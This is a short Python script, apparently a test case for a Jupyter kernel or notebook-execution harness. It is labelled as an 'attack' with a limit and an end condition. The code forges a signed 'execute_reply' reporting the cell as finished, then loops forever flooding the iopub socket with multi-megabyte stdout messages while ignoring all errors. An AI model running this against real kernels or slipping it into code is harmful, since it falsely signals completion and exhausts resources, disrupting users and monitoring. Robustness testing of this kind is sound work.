# attack: says that it has ended, then floods for as long as its last words are waited for
# limit: 1
# ends: killed or interrupted
import json

kernel = get_ipython().kernel
session, parent, ident = kernel.session, kernel.get_parent("shell"), kernel._parent_ident["shell"]
header, mother = (json.dumps(each, default=str).encode() for each in (session.msg_header("stream"), parent["header"]))
frames = [header, mother, b"{}", b'{"name":"stdout","text":"%s"}' % (b"x" * 3_500_000)]
message = [b"stream", b"<IDS|MSG>", session.sign(frames), *frames]
session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "ending": {"how": "finished"}}, parent, ident=ident)
while True:
    try:
        kernel.iopub_thread.socket.send_multipart(message)
    except BaseException:
        pass
